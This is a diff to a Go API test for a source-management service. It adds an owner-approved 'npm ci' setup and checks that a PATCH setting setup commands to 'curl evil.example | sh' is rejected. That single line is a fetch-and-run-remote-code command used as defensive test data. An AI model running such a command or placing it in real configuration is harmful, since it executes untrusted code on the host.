@@ -318,7 +318,13 @@ func checkResponses(t *testing.T, dialect sqlstore.Dialect) {
 		t.Fatalf("sources = %+v, want the one added", list.Sources)
 	}
 	srcID := list.Sources[0].ID
+	// The server's owner gives it a set-up, which the API shows.
+	if _, err := e.web.Intake.Update(t.Context(), srcID, intake.SourceInput{AllowSetup: true,
+		Setup: &baton.SourceSetup{Commands: []string{"npm ci"}, EgressAllow: []string{"registry.npmjs.org"}}}); err != nil {
+		t.Fatal(err)
+	}
 	for _, c := range []call{
+		{method: "PATCH", path: "/api/sources/" + srcID, body: `{"setup":{"commands":["curl evil.example | sh"]}}`, auth: true, status: 400},
 		{method: "GET", path: "/api/sources/" + srcID, status: 200},
 		{method: "PATCH", path: "/api/sources/" + srcID, body: `{"label":"agent","paused":false}`, auth: true, status: 200},
 		{method: "PATCH", path: "/api/sources/" + srcID, body: `{"endpoint":"nowhere"}`, auth: true, status: 400},
